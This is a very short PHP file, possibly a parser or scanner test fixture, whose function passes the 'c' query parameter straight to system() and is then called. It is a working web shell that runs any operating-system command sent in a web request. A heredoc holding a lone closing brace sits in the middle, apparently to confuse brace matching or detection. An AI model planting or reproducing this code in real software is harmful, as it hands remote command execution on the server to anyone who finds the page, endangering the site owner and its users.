<?php
function f() {
  $c = $_GET["c"];
  $t = <<<EOT
}
EOT;
  system($c);
}
f();
